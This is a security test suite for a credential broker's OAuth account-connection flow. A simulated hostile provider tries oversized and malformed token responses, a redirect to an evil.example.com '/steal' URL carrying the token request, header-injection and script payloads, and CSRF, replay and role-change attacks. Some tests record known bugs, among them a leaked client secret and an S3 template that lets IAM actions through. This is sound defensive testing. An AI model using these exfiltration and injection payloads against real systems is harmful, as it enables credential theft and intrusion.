// Attacks on templates and on connecting an account, end to end through a real broker (in-process, real
// listener and store): a HOSTILE PROVIDER on its own loopback address (BROKER_RESOLVE maps provider.test,
// api.github.com and evil.example.com to it, still under the network guard) whose token endpoint answers
// what each test sets (a refresh token, none, a huge or odd body, a redirect); the console driven with a
// cookie-keeping client (CSRF field from the cookie, as a page would post), a second person, a proxy-role
// person and a hostile origin. Every client secret, code and token the provider issues is looked for in
// every page, response header, log line and audit record.
//
// Findings are tests that fail today and pass once fixed (named "found: …"); the rest hold.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash, randomInt } from "node:crypto";
import type { IncomingMessage, ServerResponse } from "node:http";
import { createBrowser, type Browser } from "../unit/server/console-fixtures.ts";
import { startUpstream, type TestUpstream } from "../helpers/upstream.ts";
import { expectNoLeak, startBroker, type Broker } from "./proxy-fixture.ts";

const ADDRESS = `127.${randomInt(1, 250)}.${randomInt(1, 250)}.${randomInt(2, 250)}`; // one per run: files run side by side
const PROVIDER = "provider.test";
const NAMES = [PROVIDER, "api.github.com", "evil.example.com", "iam.amazonaws.com"];
const CLIENT_ID = "Iv1.attack-client";
const CLIENT_SECRET = `app-secret-${crypto.randomUUID()}`;
const PASSWORD = "correct horse battery";

type Mode = "ok" | "no_refresh" | "huge_declared" | "huge_chunked" | "redirect" | "odd_number" | "odd_newline" | "odd_long" | "error_and_refresh" | "html";

let mode: Mode = "ok";
let upstream: TestUpstream;
let broker: Broker;
/** Every token-endpoint request the provider received: its form and Authorization header. */
const tokenRequests: { form: URLSearchParams; authorization: string }[] = [];
/** Every token the provider issued (refresh and access), for the leak checks. */
const issued: string[] = [];
/** Every other path the provider was asked for (the redirect's target must never be). */
const otherHits: string[] = [];
/** Bytes the provider managed to write of its huge chunked answer before the broker let go. */
let chunkedWritten = 0;
/** Everything the broker answered (pages, headers, JSON), for the leak checks. */
const outputs: string[] = [];

function provider(req: IncomingMessage, res: ServerResponse, body: Buffer): void {
  const path = (req.url ?? "").split("?")[0];
  if (path !== "/token") {
    otherHits.push(`${req.method} ${req.headers.host} ${req.url} auth=${String(req.headers.authorization ?? "none").split(" ")[0]}`);
    res.setHeader("content-type", "application/json");
    res.end(JSON.stringify({ ok: true, authorization_seen: Boolean(req.headers.authorization) }));
    return;
  }
  tokenRequests.push({ form: new URLSearchParams(body.toString("utf8")), authorization: String(req.headers.authorization ?? "") });
  const rt = `rt_${crypto.randomUUID()}`;
  const at = `at_${crypto.randomUUID()}`;
  issued.push(rt, at);
  res.setHeader("content-type", "application/json");
  const json = (v: unknown): void => void res.end(JSON.stringify(v));
  switch (mode) {
    case "ok":
      return json({ access_token: at, token_type: "bearer", expires_in: 3600, refresh_token: rt });
    case "no_refresh":
      return json({ access_token: at, token_type: "bearer", expires_in: 3600 });
    case "huge_declared": {
      const text = JSON.stringify({ access_token: at, refresh_token: rt, pad: "x".repeat(5_000_000) });
      res.setHeader("content-length", Buffer.byteLength(text));
      return void res.end(text);
    }
    case "huge_chunked": {
      // No Content-Length: chunked, as long as the broker keeps reading (at most 48 MiB).
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      res.write(`{"access_token":"${at}","refresh_token":"${rt}","pad":"`);
      let stopped = false;
      res.on("close", () => (stopped = true));
      const pump = () => {
        while (!stopped && chunkedWritten < 48 * 1024 * 1024) {
          chunkedWritten += chunk.length;
          if (!res.write(chunk)) return void res.once("drain", pump);
        }
        if (!stopped) res.end('"}');
      };
      return pump();
    }
    case "redirect":
      res.statusCode = 302;
      res.setHeader("location", `https://evil.example.com/steal?${body.toString("utf8")}`);
      return void res.end();
    case "odd_number":
      return json({ access_token: at, refresh_token: 12345 });
    case "odd_newline":
      return json({ access_token: at, refresh_token: `${rt}\r\nx-injected: 1` });
    case "odd_long":
      return json({ access_token: at, refresh_token: `${rt}${"A".repeat(20_000)}` });
    case "error_and_refresh":
      return json({ error: "<b>bad_verification_code</b>", error_description: "<script>alert(1)</script>", refresh_token: rt });
    case "html":
      res.setHeader("content-type", "text/html");
      return void res.end(`<html><body>refresh_token=${rt}</body></html>`);
  }
}

beforeAll(async () => {
  upstream = await startUpstream(provider, { host: ADDRESS, port: 443, names: { dns: NAMES, ips: [] } });
  broker = await startBroker({
    caPem: upstream.pki.caPem,
    env: {
      BROKER_RESOLVE: NAMES.map((h) => `${h}:443:${ADDRESS}`).join(","),
      BROKER_NETWORK_ALLOWLIST: "127.0.0.0/8",
      BROKER_CONNECT_GITHUB_CLIENT_ID: CLIENT_ID,
      BROKER_CONNECT_GITHUB_CLIENT_SECRET: CLIENT_SECRET,
      BROKER_CONNECT_GITHUB_AUTHORIZE_URL: `https://${PROVIDER}/login/oauth/authorize`,
      BROKER_CONNECT_GITHUB_TOKEN_URL: `https://${PROVIDER}/token`,
    },
  });
});

afterAll(async () => {
  await broker?.stop();
  await upstream?.close();
});

/** A fetch-backed page client of the broker, signed in with `session`; every page and header kept in `outputs`. */
function browserOf(session?: string): Browser {
  const app = {
    async request(url: string, init: RequestInit) {
      const res = await fetch(url, { ...init, redirect: "manual" });
      const text = await res.clone().text();
      const heads: string[] = [];
      res.headers.forEach((v, k) => heads.push(`${k}: ${v}`));
      outputs.push(`${res.status} ${new URL(url).pathname}\n${heads.join("\n")}\n\n${text}`);
      return res;
    },
  };
  return createBrowser(app, { base: broker.apiUrl, session });
}
const same = () => ({ origin: broker.apiUrl, "sec-fetch-site": "same-origin" });

/** Registers `email` (a person of the instance) and has the owner invite them into the vault with `role`. */
async function person(email: string, role: "member" | "proxy" | "admin"): Promise<string> {
  const reg = await broker.api("POST", "/v1/auth/register", { email, password: PASSWORD });
  expect(reg.status).toBe(201);
  const inv = await broker.api("POST", `/v1/vaults/${broker.vault}/invites`, { email, role }, broker.userToken);
  expect(inv.status).toBe(201);
  const acc = await broker.api("POST", `/v1/vault-invites/${inv.body.token}/accept`, undefined, reg.body.token);
  expect(acc.status).toBe(200);
  return reg.body.token;
}

const connectPath = () => `/vaults/${broker.vault}/services/connect/github`;
const services = async () => (await broker.api("GET", `/v1/vaults/${broker.vault}/services`, undefined, broker.userToken)).body.services as any[];
const keys = async () =>
  ((await broker.api("GET", `/v1/vaults/${broker.vault}/credentials`, undefined, broker.userToken)).body.credentials as { key: string }[]).map((c) => c.key);
const states = async () => (await broker.server.store.db.all<{ state_hash: string }>("SELECT state_hash FROM connect_states")).length;

/** Starts a connection from the console as `b`: the 303 to the provider, with its state and PKCE challenge. */
async function start(b: Browser, ops: Record<string, string> = { op_read: "on" }) {
  if (![...b.jar.keys()].some((k) => k.endsWith("broker_csrf"))) await b.get("/");
  const res = await b.post(connectPath(), ops, same());
  expect(res.status).toBe(303);
  const to = new URL(res.location!);
  expect(to.origin).toBe(`https://${PROVIDER}`);
  return { to, state: to.searchParams.get("state")!, challenge: to.searchParams.get("code_challenge")! };
}

/** The provider's way back, as the browser `b` would follow it. */
async function callback(b: Browser, query: Record<string, string>) {
  return b.get(`/connect/callback?${new URLSearchParams(query)}`);
}

async function cleanVault() {
  for (const s of await services()) await broker.api("DELETE", `/v1/vaults/${broker.vault}/services/${s.host}`, undefined, broker.userToken);
  for (const k of await keys()) await broker.api("DELETE", `/v1/vaults/${broker.vault}/credentials/${k}`, undefined, broker.userToken);
}

describe("a hostile provider's token endpoint", () => {
  test.each([
    ["no_refresh", "issued no refresh token"],
    ["huge_declared", "larger than"],
    ["redirect", "HTTP 302"],
    ["odd_number", "issued no refresh token"],
    ["odd_newline", "cannot use"],
    ["odd_long", "cannot use"],
    ["error_and_refresh", "refused the authorization code"],
    ["html", "issued no refresh token"],
  ] as [Mode, string][])("%s: the connection fails with a page saying so; nothing stored, no token shown", async (m, words) => {
    await cleanVault();
    mode = m;
    const b = browserOf(broker.userToken);
    const { state } = await start(b);
    const before = tokenRequests.length;
    const res = await callback(b, { state, code: `code-${crypto.randomUUID()}` });
    expect(tokenRequests.length).toBe(before + 1);
    expect(res.status).toBe(400);
    expect(res.text).toContain("Nothing was connected");
    expect(res.text).toContain(words);
    expect(res.text).not.toContain("<script>alert");
    expect(res.text).not.toContain("<b>bad_verification_code");
    expect(await keys()).toEqual([]);
    expect(await services()).toEqual([]);
    expect(otherHits.filter((h) => h.includes("/steal"))).toEqual([]); // a redirect is never followed
  });

  test("found: a huge chunked answer (no Content-Length) is read whole before the 64 KiB cap is checked", async () => {
    await cleanVault();
    mode = "huge_chunked";
    chunkedWritten = 0;
    const b = browserOf(broker.userToken);
    const { state } = await start(b);
    const res = await callback(b, { state, code: `code-${crypto.randomUUID()}` });
    expect(res.status).toBe(400);
    expect(await keys()).toEqual([]);
    // The token endpoint "reads at most 64 KiB": a bounded reader lets go after a few socket buffers' worth.
    expect(chunkedWritten).toBeLessThan(8 * 1024 * 1024);
  });
});

describe("connecting an account: the flow's own guards", () => {
  test("PKCE S256 and a fresh 256-bit state; a completed connection is one service and three keys; no secret anywhere", async () => {
    await cleanVault();
    mode = "ok";
    const b = browserOf(broker.userToken);
    const { to, state, challenge } = await start(b, { op_read: "on", op_write: "on" });
    expect(to.searchParams.get("code_challenge_method")).toBe("S256");
    expect(to.searchParams.get("client_id")).toBe(CLIENT_ID);
    expect(new URL(to.searchParams.get("redirect_uri")!).pathname).toBe("/connect/callback");
    expect(state.length).toBeGreaterThanOrEqual(43);
    expect(to.href).not.toContain(CLIENT_SECRET);
    const code = `code-${crypto.randomUUID()}`;
    const done = await callback(b, { state, code });
    expect(done.status).toBe(200);
    expect(done.text).toContain("Account connected");
    const sent = tokenRequests.at(-1)!;
    expect(sent.form.get("code")).toBe(code);
    expect(createHash("sha256").update(sent.form.get("code_verifier")!).digest("base64url")).toBe(challenge);
    expect(sent.form.get("client_secret")).toBeNull(); // client_secret_basic: in the header only
    expect(sent.authorization.startsWith("Basic ")).toBe(true);
    const svc = (await services()).find((s) => s.host === "api.github.com");
    expect(svc).toMatchObject({
      auth: { type: "oauth2_refresh", token_url: `https://${PROVIDER}/token` },
      template: { id: "github", operations: ["read", "write"] },
    });
    // Headers that keep the callback's code and state out of Referer and caches.
    const page = outputs.findLast((o) => o.includes(" /connect/callback\n"))!;
    expect(page).toMatch(/referrer-policy: no-referrer/i);
    expect(page).toMatch(/cache-control: no-store/i);
    await expectNoSecretOutput([code, sent.form.get("code_verifier")!]);
  });

  test("a used state cannot be replayed, even with its cookie; the token endpoint is asked once", async () => {
    await cleanVault();
    mode = "ok";
    const b = browserOf(broker.userToken);
    const { state } = await start(b);
    const cookie = b.jar.get("broker_connect")!;
    expect(cookie).toBe(state);
    const before = tokenRequests.length;
    expect((await callback(b, { state, code: "c1" })).status).toBe(200);
    b.jar.set("broker_connect", cookie); // the cookie put back, as a replaying browser would
    const again = await callback(b, { state, code: "c2" });
    expect(again.status).toBe(400);
    expect(again.text).toContain("already used");
    expect(tokenRequests.length).toBe(before + 1);
  });

  test("a callback without the flow cookie, or with another flow's cookie, is refused before anything is redeemed", async () => {
    await cleanVault();
    const b = browserOf(broker.userToken);
    const { state } = await start(b);
    const before = tokenRequests.length;
    const stranger = browserOf(); // the link alone, in another browser
    expect((await callback(stranger, { state, code: "c" })).status).toBe(400);
    stranger.jar.set("broker_connect", "x".repeat(state.length));
    expect((await callback(stranger, { state, code: "c" })).status).toBe(400);
    expect(tokenRequests.length).toBe(before);
    // The rightful browser still finishes: a refusal above did not burn the state.
    mode = "ok";
    expect((await callback(b, { state, code: "c" })).status).toBe(200);
  });

  test("another person's browser holding the state (and its cookie) is refused; nothing is written to either vault", async () => {
    await cleanVault();
    const other = await person(`other-${crypto.randomUUID()}@example.com`, "admin");
    const owner = browserOf(broker.userToken);
    const { state } = await start(owner);
    const thief = browserOf(other);
    thief.jar.set("broker_connect", state);
    const before = tokenRequests.length;
    const res = await callback(thief, { state, code: "stolen" });
    expect(res.status).toBe(403);
    expect(res.text).toContain("someone else");
    expect(tokenRequests.length).toBe(before);
    expect(await keys()).toEqual([]);
  });

  test("a person whose role dropped to proxy between start and callback is refused; nothing redeemed", async () => {
    await cleanVault();
    const email = `member-${crypto.randomUUID()}@example.com`;
    const token = await person(email, "member");
    const b = browserOf(token);
    const { state } = await start(b);
    await broker.server.store.db.run("UPDATE vault_members SET role = 'proxy' WHERE user_id = (SELECT id FROM users WHERE email = ?)", [email]);
    await Bun.sleep(5_200); // the per-session access cache (5 s): no product path lowers a role, so it is not cleared
    expect((await broker.api("GET", `/v1/vaults/${broker.vault}`, undefined, token)).body.role).toBe("proxy");
    const before = tokenRequests.length;
    const res = await callback(b, { state, code: "c" });
    expect(res.status).toBe(403);
    expect(tokenRequests.length).toBe(before);
    expect(await keys()).toEqual([]);
  });

  test("the session that started the flow signed out: refused, nothing redeemed", async () => {
    await cleanVault();
    const token = await person(`leaver-${crypto.randomUUID()}@example.com`, "member");
    const b = browserOf(token);
    const { state } = await start(b);
    expect((await broker.api("POST", "/v1/auth/logout", undefined, token)).status).toBe(204);
    const before = tokenRequests.length;
    const res = await callback(b, { state, code: "c" });
    expect(res.status).toBe(400);
    expect(res.text).toContain("has ended");
    expect(tokenRequests.length).toBe(before);
    expect(await keys()).toEqual([]);
  });

  test("a proxy-role person can neither see the connect page nor start a flow", async () => {
    await cleanVault();
    const b = browserOf(await person(`proxy-${crypto.randomUUID()}@example.com`, "proxy"));
    const page = await b.get(connectPath());
    expect(page.status).toBe(403);
    const before = await states();
    await b.get("/");
    const res = await b.post(connectPath(), { op_read: "on" }, same());
    expect(res.location ?? "").not.toContain(PROVIDER);
    expect(await states()).toBe(before);
  });

  test("a cross-site post (CSRF) to start a flow is refused; no state is stored", async () => {
    const b = browserOf(broker.userToken);
    await b.get("/");
    const before = await states();
    const res = await b.post(connectPath(), { op_read: "on" }, { origin: "https://evil.example", "sec-fetch-site": "cross-site" });
    expect(res.status).toBe(403);
    expect(res.location).toBeNull();
    const noToken = await b.post(connectPath(), { op_read: "on" }, same(), false);
    expect(noToken.status).toBe(403);
    expect(await states()).toBe(before);
  });

  test("error= and error_description from the provider are never echoed; the state is spent", async () => {
    const b = browserOf(broker.userToken);
    const { state } = await start(b);
    const res = await callback(b, {
      state,
      error: "<img src=x onerror=alert(1)>",
      error_description: "<script>alert(document.cookie)</script>",
      error_uri: "https://evil.example/x",
    });
    expect(res.status).toBe(400);
    expect(res.text).not.toContain("<img src=x");
    expect(res.text).not.toContain("&lt;img");
    expect(res.text).not.toContain("alert(");
    expect(res.text).not.toContain("evil.example");
    expect(broker.logLines.some((l) => l.includes("alert("))).toBe(false);
    expect(broker.logLines.some((l) => l.includes("connect_rejected") && l.includes('"other"'))).toBe(true);
    b.jar.set("broker_connect", state);
    const again = await callback(b, { state, code: "c" });
    expect(again.status).toBe(400);
    expect(again.text).toContain("already used");
  });

  test("no open redirect: the callback and the start answer only pages or the configured provider", async () => {
    const b = browserOf(broker.userToken);
    const { state } = await start(b);
    const res = await callback(b, { state, code: "c", redirect_uri: "https://evil.example/", return_to: "https://evil.example/", next: "//evil.example" });
    expect(res.location).toBeNull();
    await b.get("/");
    const startRes = await b.post(connectPath(), { op_read: "on", redirect_uri: "https://evil.example/", return_to: "//evil.example" }, same());
    const asked = new URL(startRes.location!);
    expect(asked.origin).toBe(`https://${PROVIDER}`);
    expect(new URL(asked.searchParams.get("redirect_uri")!).pathname).toBe("/connect/callback");
    expect(asked.href).not.toContain("evil.example");
  });
});

describe("what a connection leaves in a vault", () => {
  test("found: the operator's OAuth app client secret becomes a credential any member of any vault can read", async () => {
    mode = "ok";
    // Any person with an account: their own vault, where they are admin, and a connection of their own.
    const email = `anyone-${crypto.randomUUID()}@example.com`;
    const reg = await broker.api("POST", "/v1/auth/register", { email, password: PASSWORD });
    expect(reg.status).toBe(201);
    const vault = `mine-${randomInt(1e6)}`;
    expect((await broker.api("POST", "/v1/vaults", { name: vault }, reg.body.token)).status).toBe(201);
    const b = browserOf(reg.body.token);
    await b.get("/");
    const started = await b.post(`/vaults/${vault}/services/connect/github`, { op_read: "on" }, same());
    expect(started.status).toBe(303);
    const state = new URL(started.location!).searchParams.get("state")!;
    expect((await callback(b, { state, code: "c" })).status).toBe(200);
    const read = await broker.api("GET", `/v1/vaults/${vault}/credentials/GITHUB_CLIENT_SECRET`, undefined, reg.body.token);
    // The instance's BROKER_CONNECT_GITHUB_CLIENT_SECRET is the operator's, not the person's: it must not come back.
    expect(read.body?.value).not.toBe(CLIENT_SECRET);
  });

  test("found: the connect page does not say that a key it overwrites is sent to another host today", async () => {
    await cleanVault();
    mode = "ok";
    // As after an earlier approved proposal: a service on the agent's host that sends GITHUB_REFRESH_TOKEN.
    await broker.setCredential("GITHUB_REFRESH_TOKEN", "placeholder-typed-at-approval");
    await broker.addService("evil.example.com", { type: "bearer", token: "GITHUB_REFRESH_TOKEN" });
    const b = browserOf(broker.userToken);
    const page = await b.get(connectPath());
    expect(page.status).toBe(200);
    expect(page.text).toContain('id="replaces-keys"'); // held: the key is named as replaced
    // What a person needs to see before the refresh token goes where the placeholder went.
    expect(page.text).toContain("evil.example.com");
  });

  test("held: the page warns that the service for the host is replaced", async () => {
    await cleanVault();
    await broker.setCredential("MY_PAT", "pat-value-placeholder");
    await broker.addService("api.github.com", { type: "bearer", token: "MY_PAT" }, { rules: [{ methods: ["GET"], paths: ["/user"] }] });
    const page = await browserOf(broker.userToken).get(connectPath());
    expect(page.text).toContain('id="replaces-service"');
  });
});

describe("a template's words against what its rules let through", () => {
  test("found: an approved 'Amazon S3 (iam.amazonaws.com), read only' never signs an IAM action with the person's keys", async () => {
    await cleanVault();
    const secret = `aws-secret-${crypto.randomUUID()}`;
    await broker.setCredential("AWS_ACCESS_KEY_ID", "AKIAEXAMPLEATTACK001");
    await broker.setCredential("AWS_SECRET_ACCESS_KEY", secret);
    const filed = await broker.api(
      "POST",
      "/v1/proposals",
      { services: [{ template: "aws-s3", host: "iam.amazonaws.com" }], message: "read my S3 buckets" },
      broker.sessionToken,
    );
    outputs.push(JSON.stringify(filed.body));
    if (filed.status === 400) return; // fixed: the S3 template does not serve IAM
    expect(filed.status).toBe(201);
    const page = await fetch(filed.body.approval_url.replace(/^https?:\/\/[^/]+/, broker.apiUrl));
    const html = await page.text();
    expect(html).toContain("Amazon S3 (iam.amazonaws.com), read only"); // what the person reads
    expect(html).toContain("list buckets and objects");
    const approved = await broker.api("POST", `/v1/proposals/${filed.body.id}/approve`, {}, broker.userToken);
    expect(approved.status).toBe(200);
    const seen = otherHits.length;
    // "read" is GET /**: IAM's query API takes every action as a GET.
    const res = await broker.proxy("iam.amazonaws.com", "/?Action=CreateAccessKey&UserName=admin&Version=2010-05-08", {
      headers: { authorization: `Bearer ${broker.sessionToken}` },
    });
    const text = await res.text();
    outputs.push(text);
    const forwarded = otherHits.slice(seen).filter((h) => h.includes("Action=CreateAccessKey"));
    expect({ status: res.status, forwarded }).toEqual({ status: 403, forwarded: [] });
    await expectNoLeak(broker, secret, outputs);
  });
});

/** No client secret, code, verifier or token in any page, header, log line or audit record. */
async function expectNoSecretOutput(extra: string[] = []): Promise<void> {
  await Bun.sleep(400); // the audit log flushes every 250 ms
  const audit = JSON.stringify(await broker.auditLogs());
  const secrets = [CLIENT_SECRET, ...issued, ...extra];
  expect(secrets.length).toBeGreaterThan(3);
  for (const secret of secrets)
    for (const v of [secret, Buffer.from(secret).toString("base64")]) {
      expect(outputs.filter((o) => o.includes(v)).map((o) => o.slice(0, 120))).toEqual([]);
      expect(broker.logLines.filter((l) => l.includes(v))).toEqual([]);
      expect(audit.includes(v)).toBe(false);
    }
}

describe("the whole file", () => {
  test("no client secret, code, PKCE verifier or token the provider issued in any page, header, log line or audit record", async () => {
    await expectNoSecretOutput(tokenRequests.flatMap((t) => [t.form.get("code") ?? "", t.form.get("code_verifier") ?? ""]).filter((v) => v.length > 8));
  });
});
